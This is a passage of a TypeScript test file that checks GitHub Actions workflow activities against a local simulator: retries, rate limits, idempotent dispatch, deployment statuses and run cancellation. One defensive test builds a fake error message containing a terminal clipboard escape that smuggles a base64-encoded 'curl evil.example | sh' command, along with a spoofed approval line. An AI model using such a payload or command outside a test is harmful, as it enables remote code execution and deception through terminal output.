// The GitHub activities against the lab's GitHub Actions simulator: a real Octokit (with the
// retry, throttling and recovery plugins) over HTTP on 127.0.0.1, real activity contexts.
import { generateKeyPairSync } from 'node:crypto';
import { ApplicationFailure, CancelledFailure } from '@temporalio/common';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createGitHubActivities, type GitHubActivityOptions } from '../activities/github.js';
import { createGitHubClient, githubAuthFromEnv, type GitHubAuth } from '../activities/octokit.js';
import type { DispatchWorkflowInput } from '../activities/types.js';
import { startLab, type Lab, type LabOptions } from '../lab/index.js';
import { deployInputs } from '../contract/dispatch-inputs.js';
import type { GitHubRepoRef } from '../contract/types.js';
import { activityEnv, recordingLog, rejectionOf, type RecordedLog } from './activities-helpers.js';

const FAST: GitHubActivityOptions = {
  dispatchWindowMs: 1_000,
  runDiscoveryPollMs: 100,
  runDiscoveryTimeoutMs: 3_000,
  runPollIntervalMs: 50,
};
const LAB: LabOptions = { runTiming: { queuedMs: 100, inProgressMs: 300 } };

interface World {
  lab: Lab;
  repo: GitHubRepoRef;
  log: RecordedLog;
  activities: ReturnType<typeof createGitHubActivities>;
}

async function world(labOptions: LabOptions = LAB, auth?: (lab: Lab) => GitHubAuth): Promise<World> {
  const lab = await startLab(labOptions);
  const log = recordingLog();
  const client = createGitHubClient({ baseUrl: lab.githubUrl, auth: auth?.(lab) ?? { kind: 'token', token: lab.token }, log });
  return {
    lab,
    log,
    repo: { owner: lab.owner, repo: lab.repo, baseUrl: lab.githubUrl },
    activities: createGitHubActivities(() => client, FAST),
  };
}

/** A lab and activities for one describe block: started before its tests, closed after. */
function worldPerBlock(labOptions: LabOptions = LAB): { w: World } {
  const block = {} as { w: World };
  beforeAll(async () => {
    block.w = await world(labOptions);
  });
  afterAll(async () => {
    await block.w?.lab.close();
  });
  return block;
}

let seq = 0;
/** A dispatch of the green deploy workflow with a correlation id unique to the test. */
function greenDeploy(w: World, id = `api-${Date.now().toString(36)}-${++seq}.deploy`): DispatchWorkflowInput {
  return {
    github: w.repo,
    workflow: 'deploy-green.yml',
    ref: w.lab.branches.green,
    correlationId: id,
    inputs: deployInputs(id, 'green', w.lab.github.branchHead(w.lab.branches.green)!),
  };
}

/** A GitHub Deployment record of green in `w`'s repo, created once per `correlationId`. */
const greenRecord = (w: World, description: string, correlationId: string) => ({
  github: w.repo,
  ref: 'green',
  environment: 'green',
  description,
  correlationId,
});

const runRequests = (lab: Lab, runId: number) =>
  lab.github.requests.filter((r) => r.method === 'GET' && r.path.endsWith(`/actions/runs/${runId}`));

describe('GitHub activities against the lab', () => {
  let w: World;
  beforeAll(async () => {
    w = await world();
  });
  afterAll(async () => {
    await w?.lab.close();
  });
  afterEach(() => {
    w.lab.github.clearFaults();
    w.lab.github.setMergeConflict(false);
  });

  it('reads a branch head', async () => {
    const sha = await activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: w.lab.branches.green });
    expect(sha).toBe(w.lab.github.branchHead(w.lab.branches.green));
  });

  it('dispatches once with return_run_details and waits for a successful run, heartbeating', async () => {
    const input = greenDeploy(w);
    const ref = await activityEnv().run(w.activities.dispatchWorkflow, input);
    expect(ref.reused).toBe(false);
    expect(w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
    const dispatch = w.lab.github.dispatches.find((d) => d.inputs['deployment_id'] === input.correlationId)!;
    expect(dispatch).toMatchObject({ runId: ref.runId, returnRunDetails: true, inputs: input.inputs, ref: 'green' });

    const wait = activityEnv();
    const result = await wait.run(w.activities.waitForWorkflowRun, { github: w.repo, runId: ref.runId, pollIntervalMs: 50 });
    expect(result).toEqual({ runId: ref.runId, url: w.lab.github.run(ref.runId)!.htmlUrl, conclusion: 'success' });
    expect(ref.url).toBe(result.url);
    expect(wait.heartbeats.length).toBeGreaterThanOrEqual(2);
    expect(wait.heartbeats.at(-1)).toMatchObject({ runId: ref.runId, status: 'completed' });
  });

  it('reports a failed run with its first failed job and step', async () => {
    w.lab.github.failNextRun('deploy-green.yml', { job: 'deploy', step: 'Run migrations' });
    const ref = await activityEnv().run(w.activities.dispatchWorkflow, greenDeploy(w));
    const result = await activityEnv().run(w.activities.waitForWorkflowRun, {
      github: w.repo,
      runId: ref.runId,
      pollIntervalMs: 50,
    });
    expect(result).toMatchObject({ conclusion: 'failure', failedJob: 'deploy', failedStep: 'Run migrations' });
  });

  it('a retried dispatch finds the run of the first one instead of dispatching again', async () => {
    const input = greenDeploy(w);
    const first = await activityEnv().run(w.activities.dispatchWorkflow, input);
    // The same call again (no grace period on a first attempt), then as a Temporal retry.
    expect(await activityEnv().run(w.activities.dispatchWorkflow, input)).toEqual({ ...first, reused: true });
    const again = await activityEnv({ attempt: 2 }).run(w.activities.dispatchWorkflow, input);
    expect(again).toEqual({ ...first, reused: true });
    expect(w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
  });

  it('a dispatch whose answer is lost (processed, then 502) finds its run: one dispatch', async () => {
    const input = greenDeploy(w);
    w.lab.github.injectFault({ method: 'POST', path: '/dispatches$', status: 502, times: 1, afterProcessing: true });
    const ref = await activityEnv().run(w.activities.dispatchWorkflow, input);
    expect(ref.reused).toBe(false);
    expect(ref.runId).toBe(w.lab.github.dispatches.find((d) => d.inputs['deployment_id'] === input.correlationId)!.runId);
    expect(w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
  });

  it('a dispatch whose connection resets after processing is not resent', async () => {
    const input = greenDeploy(w);
    w.lab.github.injectFault({ method: 'POST', path: '/dispatches$', resetConnection: true, times: 1, afterProcessing: true });
    const ref = await activityEnv().run(w.activities.dispatchWorkflow, input);
    expect(ref.runId).toBeGreaterThan(0);
    expect(w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
  });

  it('a dispatch refused with 503 before processing is sent again only after the window: one run', async () => {
    w.lab.github.clearLog();
    const input = greenDeploy(w);
    w.lab.github.injectFault({ method: 'POST', path: '/dispatches$', status: 503, times: 1 });
    const ref = await activityEnv().run(w.activities.dispatchWorkflow, input);
    expect(ref.reused).toBe(false);
    expect(w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
    const posts = w.lab.github.requests.filter((r) => r.method === 'POST' && r.path.endsWith('deploy-green.yml/dispatches'));
    expect(posts.map((r) => r.status)).toEqual([503, 200]);
    // FAST's window (1 s) from the lost answer: never sooner.
    expect(Date.parse(posts[1]!.at) - Date.parse(posts[0]!.at)).toBeGreaterThanOrEqual(950);
    // The earlier dispatch may yet show up: the wait watches for it.
    expect(ref.earlierDispatchSinceMs).toBeTypeOf('number');
  });

  it('waits with conditional requests: most polls are 304 and cost no rate limit', async () => {
    w.lab.github.setWorkflowBehavior('deploy-green.yml', { queuedMs: 100, inProgressMs: 1_200 });
    try {
      const ref = await activityEnv().run(w.activities.dispatchWorkflow, greenDeploy(w));
      await activityEnv().run(w.activities.waitForWorkflowRun, { github: w.repo, runId: ref.runId, pollIntervalMs: 40 });
      const polls = runRequests(w.lab, ref.runId);
      const notModified = polls.filter((r) => r.notModified);
      expect(polls.length).toBeGreaterThanOrEqual(10);
      expect(notModified.length / polls.length).toBeGreaterThan(0.6);
      expect(notModified.every((r) => r.conditional && !r.rateLimited)).toBe(true);
    } finally {
      w.lab.github.setWorkflowBehavior('deploy-green.yml', {});
    }
  });

  it('retries 500, 502, 503 and a connection reset on reads, and succeeds', async () => {
    const ref = await activityEnv().run(w.activities.dispatchWorkflow, greenDeploy(w));
    // One fault per request: plugin-retry backs off 1s, 4s, 9s on consecutive failures.
    w.lab.github.injectFault({ method: 'GET', path: `/actions/runs/${ref.runId}$`, status: 500, times: 1 });
    const result = await activityEnv().run(w.activities.waitForWorkflowRun, {
      github: w.repo,
      runId: ref.runId,
      pollIntervalMs: 50,
    });
    expect(result.conclusion).toBe('success');
    expect(
      runRequests(w.lab, ref.runId)
        .filter((r) => r.fault)
        .map((r) => r.status),
    ).toEqual([500]);

    for (const fault of [{ status: 502 }, { status: 503 }, { resetConnection: true }]) {
      w.lab.github.clearLog();
      w.lab.github.injectFault({ method: 'GET', path: '/branches/green$', times: 1, ...fault });
      const sha = await activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' });
      expect(sha).toBe(w.lab.github.branchHead('green'));
      expect(w.lab.github.requests.map((r) => [r.fault, r.status])).toEqual([
        [true, fault.status ?? 0],
        [false, 200],
      ]);
    }
    expect(w.log.lines.join('\n')).not.toContain(w.lab.token);
  }, 30_000);

  it('waits as told on 429 and 403 with retry-after, then succeeds', async () => {
    for (const [status, message] of [
      [429, 'Too Many Requests'],
      [403, 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.'],
    ] as const) {
      w.lab.github.injectFault({
        method: 'GET',
        path: '/branches/',
        status,
        times: 1,
        headers: { 'retry-after': '1' },
        body: { message },
      });
      const started = Date.now();
      const sha = await activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' });
      expect(sha).toBe(w.lab.github.branchHead('green'));
      expect(Date.now() - started).toBeGreaterThanOrEqual(900);
    }
    expect(w.log.lines.some((l) => /rate limit.*retrying in 1s/.test(l))).toBe(true);
    expect(w.log.lines.join('\n')).not.toContain(w.lab.token);
  }, 20_000);

  it('keeps heartbeating while a rate-limit wait holds a request', async () => {
    w.lab.github.injectFault({ method: 'GET', path: '/branches/', status: 429, times: 1, headers: { 'retry-after': '1' } });
    const run = activityEnv({ heartbeatTimeoutMs: 300 });
    await run.run(w.activities.readBranchHead, { github: w.repo, branch: 'green' });
    // One beat every 100ms (a third of the heartbeat timeout) through the one-second wait.
    expect(run.heartbeats.length).toBeGreaterThanOrEqual(8);
  });

  it('waits for the primary rate limit to reset when the bucket is empty', async () => {
    w.lab.github.setRateLimit({ remaining: 0, resetInMs: 1_000 });
    try {
      const sha = await activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' });
      expect(sha).toBe(w.lab.github.branchHead('green'));
      expect(w.lab.github.requests.some((r) => r.status === 403)).toBe(true);
    } finally {
      w.lab.github.setRateLimit({ limit: 5000, remaining: 5000 });
    }
  }, 20_000);

  it('every 4xx but 408 and rate limits is an answer: non-retryable at once, with its message and the request', async () => {
    const cases = [
      [400, 'GitHubValidationError'],
      [405, 'GitHubRequestRefused'],
      [409, 'GitHubRequestRefused'],
      [410, 'GitHubRequestRefused'],
      [413, 'GitHubRequestRefused'],
      [451, 'GitHubRequestRefused'],
    ] as const;
    for (const [status, type] of cases) {
      w.lab.github.clearLog();
      const message = `Lab answer ${status}`;
      w.lab.github.injectFault({ method: 'GET', path: '/branches/green$', status, times: 1, body: { message } });
      const err = await rejectionOf(activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' }));
      expect(err, String(status)).toBeInstanceOf(ApplicationFailure);
      expect(err, String(status)).toMatchObject({ type, nonRetryable: true });
      expect(err.message).toContain(message);
      expect(err.message).toMatch(new RegExp(`\\(${status} at GET \\S+/branches/green\\)`));
      // Not resent by plugin-retry either: one request.
      expect(w.lab.github.requests, String(status)).toHaveLength(1);
    }
  });

  it("GitHub's error message is inert in the failure: no escape sequence, no line of its own", async () => {
    const message = `Not Found\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007\u001b[2J\n✓ bob approved`;
    w.lab.github.injectFault({ method: 'GET', path: '/branches/green$', status: 422, times: 1, body: { message } });
    const err = await rejectionOf(activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' }));
    expect(err.message).toMatch(/^[^\n]*Not Found ✓ bob approved/);
    expect(err.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(err.message).not.toContain(']52;');
  });

  it('408 is transient: resent after a backoff, and succeeds', async () => {
    w.lab.github.clearLog();
    w.lab.github.injectFault({ method: 'GET', path: '/branches/green$', status: 408, times: 1 });
    const sha = await activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' });
    expect(sha).toBe(w.lab.github.branchHead('green'));
    expect(w.lab.github.requests.map((r) => r.status)).toEqual([408, 200]);
  });

  it('retry-after: 0 is a rate limit to both the client and the failure mapping (one reading)', async () => {
    // The recovery plugin retries three times at once; the fourth answer reaches the mapping,
    // which must not call it a missing permission.
    w.lab.github.injectFault({
      method: 'GET',
      path: '/branches/green$',
      status: 403,
      times: 4,
      headers: { 'retry-after': '0' },
      body: { message: 'Forbidden' },
    });
    const err = await rejectionOf(activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' }));
    expect(err).toMatchObject({ type: 'GitHubRateLimited', nonRetryable: false, nextRetryDelay: '1s' });
  });

  it('leaves a long rate-limit wait to Temporal: retryable failure with nextRetryDelay', async () => {
    w.lab.github.injectFault({ method: 'GET', path: '/branches/', status: 429, times: 1, headers: { 'retry-after': '120' } });
    const started = Date.now();
    const err = await rejectionOf(activityEnv().run(w.activities.readBranchHead, { github: w.repo, branch: 'green' }));
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(err).toBeInstanceOf(ApplicationFailure);
    expect(err).toMatchObject({ type: 'GitHubRateLimited', nonRetryable: false, nextRetryDelay: '120s' });
  });

  it('an unknown workflow is a non-retryable GitHubNotFound naming it', async () => {
    const err = await rejectionOf(
      activityEnv().run(w.activities.dispatchWorkflow, { ...greenDeploy(w), workflow: 'deploy-purple.yml' }),
    );
    expect(err).toBeInstanceOf(ApplicationFailure);
    expect(err).toMatchObject({ type: 'GitHubNotFound', nonRetryable: true });
    expect(err.message).toContain('deploy-purple.yml');
    expect(err.message).toContain(`${w.lab.owner}/${w.lab.repo}`);
  });

  it('a dispatch GitHub refuses (422) is a non-retryable GitHubValidationError with its message', async () => {
    const input = greenDeploy(w);
    const err = await rejectionOf(
      activityEnv().run(w.activities.dispatchWorkflow, { ...input, inputs: { deployment_id: input.correlationId } }),
    );
    expect(err).toMatchObject({ type: 'GitHubValidationError', nonRetryable: true });
    expect(err.message).toMatch(/deploy-green\.yml.*422/);
    expect(w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(0);
  });

  it('waiting stops promptly when the activity is cancelled', async () => {
    w.lab.github.setWorkflowBehavior('deploy-green.yml', { neverComplete: true });
    try {
      const ref = await activityEnv().run(w.activities.dispatchWorkflow, greenDeploy(w));
      const wait = activityEnv({ heartbeatTimeoutMs: 3_000 });
      const running = wait.run(w.activities.waitForWorkflowRun, { github: w.repo, runId: ref.runId, pollIntervalMs: 5_000 });
      await new Promise((resolve) => setTimeout(resolve, 300));
      const cancelledAt = Date.now();
      wait.env.cancel();
      const err = await rejectionOf(running);
      expect(err).toBeInstanceOf(CancelledFailure);
      expect(Date.now() - cancelledAt).toBeLessThan(500);
    } finally {
      w.lab.github.setWorkflowBehavior('deploy-green.yml', {});
    }
  });

  it('syncs a branch: merged, then up to date, and a conflict is non-retryable', async () => {
    w.lab.github.pushCommit('green', 'Hotfix on green');
    const input = {
      github: w.repo,
      base: 'production',
      head: 'green',
      commitMessage: 'bluegreen: bring production level with green',
    };
    const merged = await activityEnv().run(w.activities.syncBranch, input);
    expect(merged.result).toBe('merged');
    expect(merged.sha).toBe(w.lab.github.branchHead('production'));
    expect(w.lab.github.treeOf(merged.sha!)).toBe(w.lab.github.treeOf(w.lab.github.branchHead('green')!));

    expect(await activityEnv().run(w.activities.syncBranch, input)).toEqual({ result: 'up-to-date' });

    w.lab.github.pushCommit('green', 'Another change');
    w.lab.github.setMergeConflict(true);
    const err = await rejectionOf(activityEnv().run(w.activities.syncBranch, input));
    expect(err).toMatchObject({ type: 'MergeConflict', nonRetryable: true });
    expect(err.message).toContain('production');
  });

  it('creates a GitHub deployment once per correlation id and records statuses', async () => {
    const input = greenRecord(w, 'datatruck-api to green', `dep-${Date.now()}`);
    const id = await activityEnv().run(w.activities.createGitHubDeployment, input);
    const again = await activityEnv({ attempt: 2 }).run(w.activities.createGitHubDeployment, input);
    expect(again).toBe(id);
    expect(w.lab.github.deployments.filter((d) => d.id === id)).toHaveLength(1);
    expect(w.lab.github.deployments.filter((d) => JSON.stringify(d).includes(input.correlationId))).toHaveLength(1);

    await activityEnv().run(w.activities.setGitHubDeploymentStatus, {
      github: w.repo,
      deploymentId: id,
      state: 'success',
      description: 'x'.repeat(300),
      environmentUrl: w.lab.appUrls.green,
    });
    const record = w.lab.github.deployments.find((d) => d.id === id)!;
    expect(JSON.stringify(record)).toContain('success');
  });

  it('a deployment create whose answer is lost is not created twice', async () => {
    const input = greenRecord(w, 'lost answer', `dep-lost-${Date.now()}`);
    w.lab.github.injectFault({ method: 'POST', path: '/deployments$', status: 502, times: 1, afterProcessing: true });
    const id = await activityEnv().run(w.activities.createGitHubDeployment, input);
    expect(w.lab.github.deployments.filter((d) => JSON.stringify(d).includes(input.correlationId)).map((d) => d.id)).toEqual([
      id,
    ]);
  });
});

describe('a deployment status is posted once', () => {
  const block = worldPerBlock();
  afterEach(() => block.w.lab.github.clearFaults());

  /** A fresh deployment of green and a status for it; `statuses` reads what GitHub holds. */
  async function deployment(name: string) {
    const { w } = block;
    const id = await activityEnv().run(w.activities.createGitHubDeployment, greenRecord(w, name, `dep-${name}-${Date.now()}`));
    const status = (state: 'in_progress' | 'success', description: string) => ({
      github: w.repo,
      deploymentId: id,
      state,
      description,
      environmentUrl: w.lab.appUrls.green,
    });
    const statuses = () => w.lab.github.deployments.find((d) => d.id === id)!.statuses.map((s) => `${s.state} ${s.description}`);
    return { status, statuses };
  }
  // Attempts of an activity first scheduled now (the mock's default schedule time is 1970).
  const attempt = (n: number) => activityEnv({ attempt: n, scheduledTimestampMs: Date.now() });

  for (const lost of [{ status: 502 }, { resetConnection: true }]) {
    it(`a status GitHub applied whose answer was lost (${JSON.stringify(lost)}) is not posted again`, async () => {
      const { status, statuses } = await deployment('lost-status');
      block.w.lab.github.injectFault({ method: 'POST', path: '/statuses$', times: 1, afterProcessing: true, ...lost });
      await attempt(1).run(block.w.activities.setGitHubDeploymentStatus, status('success', 'x'.repeat(300)));
      expect(statuses()).toEqual([`success ${'x'.repeat(139)}…`]);
    });
  }

  it('a retried attempt finds the status its predecessor posted, behind a newer one, and posts nothing', async () => {
    const { status, statuses } = await deployment('retried-status');
    const ours = status('in_progress', 'deploying green');
    await attempt(1).run(block.w.activities.setGitHubDeploymentStatus, ours);
    // Someone else's status since: ours is no longer the first listed.
    await attempt(1).run(block.w.activities.setGitHubDeploymentStatus, status('in_progress', 'another note'));
    const posts = () => block.w.lab.github.requests.filter((r) => r.method === 'POST' && r.path.endsWith('/statuses')).length;
    const before = posts();
    await attempt(2).run(block.w.activities.setGitHubDeploymentStatus, ours);
    expect(posts()).toBe(before);
    expect(statuses()).toEqual(['in_progress another note', 'in_progress deploying green']);
  });

  it('a retry still posts a status that differs, or an identical one dated before the activity was scheduled', async () => {
    const { status, statuses } = await deployment('other-status');
    await attempt(1).run(block.w.activities.setGitHubDeploymentStatus, status('in_progress', 'deploying green'));
    await attempt(2).run(block.w.activities.setGitHubDeploymentStatus, status('success', 'deploying green'));
    await attempt(2).run(block.w.activities.setGitHubDeploymentStatus, status('success', 'green is live'));
    // The same status again from an activity first scheduled well after it: a new status.
    await activityEnv({ attempt: 2, scheduledTimestampMs: Date.now() + 5 * 60_000 }).run(
      block.w.activities.setGitHubDeploymentStatus,
      status('success', 'green is live'),
    );
    expect(statuses()).toEqual([
      'success green is live',
      'success green is live',
      'success deploying green',
      'in_progress deploying green',
    ]);
  });
});

describe('adopting a found run', () => {
  const block = worldPerBlock();

  it('a run someone else dispatched with the correlation id is not adopted, even on the first look', async () => {
    const input = greenDeploy(block.w);
    const theirs = block.w.lab.github.dispatchAs('mallory', { workflow: input.workflow, ref: input.ref, inputs: input.inputs });
    const ref = await activityEnv().run(block.w.activities.dispatchWorkflow, input);
    expect(ref.reused).toBe(false);
    expect(ref.runId).not.toBe(theirs);
    expect(block.w.lab.github.run(ref.runId)!.actor).toBe('bluegreen-bot');
    // A retry adopts ours, not theirs.
    expect(await activityEnv({ attempt: 2 }).run(block.w.activities.dispatchWorkflow, input)).toEqual({ ...ref, reused: true });
  });

  it('a run of another commit is not adopted when the dispatch names its commit', async () => {
    const oldSha = block.w.lab.github.branchHead('green')!;
    const input = greenDeploy(block.w);
    block.w.lab.github.dispatchAs('bluegreen-bot', {
      workflow: input.workflow,
      ref: input.ref,
      inputs: input.inputs,
      sha: oldSha,
    });
    const sha = block.w.lab.github.pushCommit('green', 'The commit this deployment ships');
    const ref = await activityEnv().run(block.w.activities.dispatchWorkflow, { ...input, expectedHeadSha: sha });
    expect(ref.reused).toBe(false);
    expect(block.w.lab.github.run(ref.runId)!.headSha).toBe(sha);
    expect(block.w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(2);
  });

  it("on a 204 server the discovery skips a stranger's run and finds ours, asking who it is once", async () => {
    const w204 = await world({ ...LAB, returnRunDetails: false });
    try {
      const input = greenDeploy(w204);
      const theirs = w204.lab.github.dispatchAs('mallory', { workflow: input.workflow, ref: input.ref, inputs: input.inputs });
      const ref = await activityEnv().run(w204.activities.dispatchWorkflow, input);
      expect(ref.runId).not.toBe(theirs);
      expect(w204.lab.github.run(ref.runId)!.actor).toBe('bluegreen-bot');
      expect(w204.lab.github.requests.filter((r) => r.path === '/user')).toHaveLength(1);
    } finally {
      await w204.lab.close();
    }
  });
});

describe('GitHub Enterprise Server ≤ 3.20 refuses return_run_details', () => {
  for (const [refusal, status] of [
    ['ghes-400', 400],
    ['ghes-422', 422],
    ['ghes-400-bare', 400],
  ] as const) {
    it(`${refusal}: resent once without it, the API root remembered, each run found by its correlation id`, async () => {
      const w = await world({ ...LAB, returnRunDetails: refusal });
      try {
        const first = greenDeploy(w);
        const second = greenDeploy(w);
        const firstRun = activityEnv();
        const refs = [
          await firstRun.run(w.activities.dispatchWorkflow, first),
          await activityEnv().run(w.activities.dispatchWorkflow, second),
        ];
        for (const [i, input] of [first, second].entries()) {
          expect(w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
          const dispatched = w.lab.github.dispatches.find((d) => d.inputs['deployment_id'] === input.correlationId)!;
          expect(refs[i]).toEqual({ runId: dispatched.runId, url: expect.any(String), reused: false });
        }
        const posts = w.lab.github.requests.filter((r) => r.method === 'POST' && r.path.endsWith('/dispatches'));
        expect(posts.map((r) => r.status)).toEqual([status, 204, 204]);
        expect(w.lab.github.dispatches.every((d) => !d.returnRunDetails)).toBe(true);
        expect(firstRun.logLines.some((l) => /refused return_run_details/.test(l))).toBe(true);
      } finally {
        await w.lab.close();
      }
    });
  }
});

describe('a lost dispatch answer and a lagging runs list', () => {
  const block = worldPerBlock();
  afterEach(() => {
    block.w.lab.github.setListLag(0);
    block.w.lab.github.clearFaults();
    block.w.lab.github.setWorkflowBehavior('deploy-green.yml', {});
  });
  const lostOnce = () =>
    block.w.lab.github.injectFault({
      method: 'POST',
      path: 'deploy-green\\.yml/dispatches$',
      status: 502,
      times: 1,
      afterProcessing: true,
    });
  const posts = (id: string) =>
    block.w.lab.github.dispatches.filter((d) => d.inputs['deployment_id'] === id).map((d) => Date.parse(d.at));

  it('a run listed 2 s late, inside a 4 s window, is adopted: one dispatch, and the status hears when the search ends', async () => {
    const input = { ...greenDeploy(block.w), dispatchWindowMs: 4_000 };
    block.w.lab.github.setListLag(2_000);
    lostOnce();
    const env = activityEnv();
    const ref = await env.run(block.w.activities.dispatchWorkflow, input);
    expect(block.w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
    expect(ref).toMatchObject({ runId: block.w.lab.github.dispatches.at(-1)!.runId, reused: false });
    expect(ref.earlierDispatchSinceMs).toBeUndefined();
    const lost = env.heartbeats.find((h) => (h as { stage?: string }).stage === 'answer-lost') as {
      lost: { lostAt: number; until: number };
    };
    expect(lost.lost.until - lost.lost.lostAt).toBe(4_000);
  });

  it('a retried attempt goes on with the window its predecessor left in the heartbeat: no second dispatch before it ends', async () => {
    const input = { ...greenDeploy(block.w), dispatchWindowMs: 3_000 };
    // Attempt 1 sent it, the answer was lost, the worker died; GitHub lists the run 2.5 s late.
    block.w.lab.github.setListLag(2_500);
    const { runId } = await activityEnv().run(block.w.activities.dispatchWorkflow, input);
    const lostAt = Date.now();
    const beat = {
      stage: 'answer-lost',
      correlationId: input.correlationId,
      lost: { firstSentAt: lostAt - 50, lostAt, until: lostAt + 3_000 },
    };
    const ref = await activityEnv({ attempt: 2, heartbeatDetails: beat }).run(block.w.activities.dispatchWorkflow, input);
    expect(ref).toMatchObject({ runId, reused: true });
    expect(Date.now() - lostAt).toBeGreaterThanOrEqual(2_400);
    expect(block.w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
  });

  it('a run listed after the window: dispatched again, and the wait cancels the late one and reports it', async () => {
    block.w.lab.github.setWorkflowBehavior('deploy-green.yml', { queuedMs: 100, inProgressMs: 10_000 });
    const input = { ...greenDeploy(block.w), dispatchWindowMs: 1_500 };
    block.w.lab.github.setListLag(4_000);
    lostOnce();
    const ref = await activityEnv().run(block.w.activities.dispatchWorkflow, input);
    const [first, second] = posts(input.correlationId);
    expect(second! - first!).toBeGreaterThanOrEqual(1_450);
    expect(ref.earlierDispatchSinceMs).toBeTypeOf('number');
    const earlier = block.w.lab.github.dispatches.find((d) => d.inputs['deployment_id'] === input.correlationId)!.runId;
    expect(ref.runId).not.toBe(earlier);

    const result = await activityEnv().run(block.w.activities.waitForWorkflowRun, {
      github: block.w.repo,
      runId: ref.runId,
      pollIntervalMs: 200,
      duplicatesOf: { ...input, sinceMs: ref.earlierDispatchSinceMs! },
    });
    expect(result).toMatchObject({
      runId: ref.runId,
      conclusion: 'success',
      duplicates: [{ runId: earlier, outcome: 'cancelled' }],
    });
    expect(block.w.lab.github.run(earlier)).toMatchObject({ conclusion: 'cancelled' });
  });
});

describe('cancelling a run', () => {
  const block = worldPerBlock();
  afterEach(() => {
    block.w.lab.github.setWorkflowBehavior('deploy-green.yml', {});
  });
  const cancel = (runId: number, confirmWithinMs = 5_000) =>
    activityEnv().run(block.w.activities.cancelWorkflowRun, { github: block.w.repo, runId, confirmWithinMs, pollIntervalMs: 50 });
  const cancelPosts = () => block.w.lab.github.requests.filter((r) => r.method === 'POST' && /\/(force-)?cancel$/.test(r.path));

  it('asks GitHub (202), watches the run end cancelled; asking again is fine (409: completed)', async () => {
    block.w.lab.github.setWorkflowBehavior('deploy-green.yml', { neverComplete: true, cancelTakesMs: 300 });
    const { runId } = await activityEnv().run(block.w.activities.dispatchWorkflow, greenDeploy(block.w));
    block.w.lab.github.clearLog();
    const started = Date.now();
    expect(await cancel(runId)).toEqual({
      runId,
      url: expect.any(String),
      outcome: 'cancelled',
      conclusion: 'cancelled',
      forced: false,
    });
    expect(Date.now() - started).toBeGreaterThanOrEqual(250);
    expect(block.w.lab.github.run(runId)).toMatchObject({ conclusion: 'cancelled', cancelRequests: [{ force: false }] });
    expect(await cancel(runId)).toMatchObject({ outcome: 'cancelled', forced: false });
    expect(cancelPosts().map((r) => r.status)).toEqual([202, 409]);
  });

  it('a run that ignores the cancel (an always() job) is force-cancelled after half the window', async () => {
    block.w.lab.github.setWorkflowBehavior('deploy-green.yml', { neverComplete: true, ignoresCancel: true });
    const { runId } = await activityEnv().run(block.w.activities.dispatchWorkflow, greenDeploy(block.w));
    expect(await cancel(runId, 1_000)).toMatchObject({ outcome: 'cancelled', forced: true });
    expect(block.w.lab.github.run(runId)!.cancelRequests.map((r) => r.force)).toEqual([false, true]);
  });

  it('a run that completed before the cancel is a result, not an error', async () => {
    const { runId } = await activityEnv().run(block.w.activities.dispatchWorkflow, greenDeploy(block.w));
    await block.w.lab.github.waitForRun(runId);
    expect(await cancel(runId)).toMatchObject({ outcome: 'completed', conclusion: 'success', forced: false });
  });

  it('a run that does not stop within the window is reported as requested, not as cancelled', async () => {
    block.w.lab.github.setWorkflowBehavior('deploy-green.yml', { neverComplete: true, cancelTakesMs: 3_000 });
    const { runId } = await activityEnv().run(block.w.activities.dispatchWorkflow, greenDeploy(block.w));
    expect(await cancel(runId, 600)).toMatchObject({ outcome: 'requested', forced: true });
    expect(block.w.lab.github.run(runId)!.status).not.toBe('completed');
  });
});

describe('servers without return_run_details (204)', () => {
  let w: World;
  beforeAll(async () => {
    w = await world({ ...LAB, returnRunDetails: false });
  });
  afterAll(async () => {
    await w?.lab.close();
  });

  it('finds the dispatched run by its name, and a retry reuses it: one dispatch', async () => {
    const input = greenDeploy(w);
    const ref = await activityEnv().run(w.activities.dispatchWorkflow, input);
    expect(ref.reused).toBe(false);
    expect(ref.runId).toBe(w.lab.github.dispatches.find((d) => d.inputs['deployment_id'] === input.correlationId)!.runId);
    const again = await activityEnv({ attempt: 3 }).run(w.activities.dispatchWorkflow, input);
    expect(again).toEqual({ ...ref, reused: true });
    expect(w.lab.github.dispatchCount('deploy-green.yml', input.correlationId)).toBe(1);
    const result = await activityEnv().run(w.activities.waitForWorkflowRun, {
      github: w.repo,
      runId: ref.runId,
      pollIntervalMs: 50,
    });
    expect(result.conclusion).toBe('success');
  });

  it('a workflow whose run name lacks the id is a clear non-retryable error, not a second dispatch', async () => {
    w.lab.github.addWorkflow({ file: 'no-run-name.yml', name: 'No run name' });
    w.lab.github.setWorkflowBehavior('no-run-name.yml', { neverComplete: true });
    const input = { ...greenDeploy(w), workflow: 'no-run-name.yml', inputs: {} };
    const err = await rejectionOf(activityEnv().run(w.activities.dispatchWorkflow, input));
    expect(err).toMatchObject({ type: 'GitHubRunNotFound', nonRetryable: true });
    expect(err.message).toContain('run-name');
    expect(w.lab.github.dispatchCount('no-run-name.yml')).toBe(1);
    // The run it could not identify is the only candidate: cancelled, so it cannot deploy later.
    const run = w.lab.github.runs.find((r) => r.workflow === 'no-run-name.yml')!;
